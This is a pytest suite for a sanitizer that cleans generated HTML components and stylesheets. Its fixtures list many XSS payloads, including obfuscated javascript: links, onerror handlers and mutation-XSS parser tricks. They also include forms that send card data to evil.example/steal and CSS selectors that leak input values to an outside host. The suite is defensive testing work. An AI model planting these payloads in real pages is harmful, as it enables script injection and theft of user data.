"""Components: harmless oddities are taken out, hostile markup is refused."""

from __future__ import annotations

import re

import pytest

from flywheel.ai.markup import clean_component
from flywheel.ai.stylesheet import UnsafeMarkupError, clean_declarations, clean_stylesheet

HOSTILE_HTML = [
    "<script>alert(1)</script>",
    "<p>Hi</p><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img/src='x'/onerror=alert(1)>",
    "<body onload=alert(1)><p>Hi</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:image/svg+xml;base64,PHN2Zz4=">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://x.example/1">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<form action="https://evil.example/steal"><input name="card"></form>',
    '<form action="//evil.example/steal"><input name="card"></form>',
    '<form action="\\\\evil.example/steal"><input name="card"></form>',
    '<form action="/ok"><button formaction="https://evil.example">Go</button></form>',
    '<form action="mailto:thief@evil.example"><input name="card"></form>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)></svg>",
    '<svg><animate onbegin="alert(1)" attributeName="x"></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><img src=x onerror="alert(1)"></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<img srcset="https://a.example/x.png 1x, javascript:alert(1) 2x">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#a)">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    '<button @click="run()">x</button>',
    '<div v-on:click="run()">x</div>',
    '<div x-data="{a:1}">x</div>',
    '<div hx-get="/x">x</div>',
    '<div data-hx-on:click="alert(1)">x</div>',
    '<div data-ng-click="alert(1)">x</div>',
    '<div data-bind="text: alert(1)">x</div>',
]
PROGRAMS = [
    "import React from 'react';\nexport default function Hero() { return <h1>Hi</h1> }",
    'import "./style.css";\n<p>Hi</p>',
    '<div className="hero">Hi</div>',
    "<label htmlFor='x'>Hi</label>",
    "<p>{title}</p>",
    "<p>{items.map(i => <li>{i}</li>)}</p>",
    "<Hero title='x' />",
    "<><p>Hi</p></>",
    "<a href={url}>Hi</a>",
    "```html\n<p>Hi</p>\n```",
    "<p><?php echo $x ?></p>",
    "<p><%= x %></p>",
    "const x = () => { return 1 }",
]
HOSTILE_CSS = [
    "@import 'https://evil.example/x.css';",
    "@import url(https://evil.example/x.css);",
    "@im\\70ort 'https://evil.example/x.css';",
    "@namespace url(https://x.example);",
    "@font-face { font-family: x; src: url(https://evil.example/x.woff) }",
    ".a { background: url(javascript:alert(1)) }",
    ".a { background: url('http://plain.example/x.png') }",
    ".a { background: url(//evil.example/x.png) }",
    ".a { background: url(data:text/html;base64,AAAA) }",
    ".a { background: url(data:image/svg+xml;base64,AAAA) }",
    ".a { background: u\\72l(javascript:alert(1)) }",
    ".a { background: image-set('javascript:alert(1)' 1x) }",
    ".a { background: var(--x, url(javascript:alert(1))) }",
    ".a { --x: url(javascript:alert(1)) }",
    ".a { width: expression(alert(1)) }",
    ".a { width: e\\78pression(alert(1)) }",
    ".a { behavior: url(#default#time2) }",
    ".a { b\\65havior: url(https://x.example/x.htc) }",
    ".a { -moz-binding: url(https://x.example/x.xml#a) }",
    ".a { position: fixed; inset: 0 }",
    ".a { position: FIXED !important }",
    "@media (min-width: 1px) { .a { position: fixed } }",
    ".a { & .b { position: fixed } }",
    "input[value^=a] { background: url(https://evil.example/a) }",
    "input[v\\61lue^=a] { color: red }",
    "input[/**/VALUE^=a] { color: red }",
    "form:has(input[*|value^=a]) { color: red }",
    ".a { & input[value^=a] { color: red } }",
    ".a { position: var(--p) }",
    ".a { position: /**/fixed }",
    ".a { color: red } </style><script>alert(1)</script>",
    ".a::after { content: '\\3c/style>\\3cscript>alert(1)\\3c/script>' }",
    ".a { background: url(https://x.example/'bad' url) }",
]


@pytest.mark.parametrize("code", HOSTILE_HTML)
def test_hostile_html_is_refused(code: str) -> None:
    with pytest.raises(UnsafeMarkupError, match=r"^c"):
        clean_component(f"<div>{code}</div>", "")


@pytest.mark.parametrize("code", PROGRAMS)
def test_programs_are_not_html(code: str) -> None:
    with pytest.raises(UnsafeMarkupError, match=r"^code: holds"):
        clean_component(code, "")


@pytest.mark.parametrize("css", HOSTILE_CSS)
def test_hostile_css_is_refused(css: str) -> None:
    with pytest.raises(UnsafeMarkupError, match=r"^css_styles: "):
        clean_component("<p>Hi</p>", css)


@pytest.mark.parametrize(
    "code",
    [
        # What one parser takes for text and another for a tag.
        "<scr<script>ipt>alert(1)</scr<script>ipt>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>-->",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
        "<math><mi><mglyph><style><img title='</style><img src=x onerror=alert(1)>'></style>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<select><option><img src=x onerror=alert(1)></option></select>",
        "<table><td><img src=x onerror=alert(1)></table>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
    ],
)
def test_what_comes_out_runs_nothing_however_it_is_parsed(code: str) -> None:
    try:
        safe, _ = clean_component(f"<div>Hi {code}</div>", "")
    except UnsafeMarkupError:
        return
    tags = re.findall(r"<[^>]*>", safe)
    assert not [tag for tag in tags if "onerror" in tag.lower()], safe
    assert "<style" not in safe
    assert "<script" not in safe
    assert clean_component(safe, "")[0] == safe


def test_a_good_component_stays_as_it_is() -> None:
    code = (
        '<section class="lw-hero" id="hero" lang="ar" dir="rtl" aria-label="Start" data-step="1">'
        '<h1 style="color: red;">بطانية</h1><img src="https://x.example/a.png" alt="A loom" '
        'srcset="https://x.example/a.png 1x, /b.png 2x" loading="lazy">'
        '<form action="/subscribe" method="post"><label for="e">E-mail</label>'
        '<input id="e" type="email" name="email" required=""><button type="submit">Go</button>'
        "</form></section>"
    )
    assert clean_component(code, "")[0] == code


def test_links_give_nothing_away() -> None:
    safe, _ = clean_component('<a href="https://x.example" target="_blank">x</a>', "")
    assert 'rel="noopener noreferrer"' in safe
    assert "target" not in clean_component('<a href="/x" target="evil">x</a>', "")[0]
    for address in ("/x", "#top", "mailto:a@x.example", "tel:+44123", "?q=1", "x/y:z"):
        assert f'href="{address}"' in clean_component(f'<a href="{address}">x</a>', "")[0]


def test_images_may_stand_in_the_code() -> None:
    code = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">'
    assert clean_component(code, "")[0] == code


def test_harmless_oddities_are_taken_out() -> None:
    code = (
        "<!DOCTYPE html><html><head><meta charset=utf-8><title>Hero</title></head>"
        "<body><!-- a note --><marquee>Wool</marquee><p accesskey=x>lasts</p></body></html>"
    )
    assert clean_component(code, "")[0] == "Wool<p>lasts</p>"


def test_merge_fields_are_no_expressions() -> None:
    assert clean_component("<p>Dear {{ first_name }}</p>", "")[0] == "<p>Dear {{ first_name }}</p>"


def test_nothing_at_all_is_refused() -> None:
    with pytest.raises(UnsafeMarkupError, match="nothing is left"):
        clean_component("<marquee></marquee>", "")


def test_good_css_stays() -> None:
    css = (
        "@media (max-width: 40rem) {\n.lw-hero { padding: 1rem; }\n}\n"
        '.lw-hero > a:hover, .lw-hero [data-step="1"] { color: var(--ink, #123) !important; }\n'
        '.lw-hero { background: url("https://x.example/a.png") center / cover; '
        "width: calc(100% - 2rem); }\n"
        "@keyframes lw-fade {\nfrom { opacity: 0; }\n100% { opacity: 1; }\n}"
    )
    once = clean_stylesheet(css)
    assert clean_stylesheet(once) == once
    for part in ("@media (max-width: 40rem)", "var(--ink, #123) !important", "calc(100% - 2rem)"):
        assert part in once


def test_declarations_that_do_not_parse_are_left_out() -> None:
    assert clean_stylesheet(".a { color: red; : ; nonsense } .b { ! }") == ".a { color: red; }"


def test_brackets_that_do_not_match_are_refused() -> None:
    with pytest.raises(UnsafeMarkupError, match="does not parse"):
        clean_stylesheet("} .a { color: red }")


def test_a_popup_may_lie_over_the_page() -> None:
    css = ".lw-popup { position: fixed; }"
    assert clean_component("<div>Hi</div>", css, overlay=True)[1] == css


def test_nested_rules_are_kept_and_checked() -> None:
    assert ".b" in clean_stylesheet(".a { color: red; .b { color: blue } }")


def test_declarations_of_an_attribute_are_checked() -> None:
    assert clean_declarations("color:red;;margin:0") == "color: red; margin: 0;"
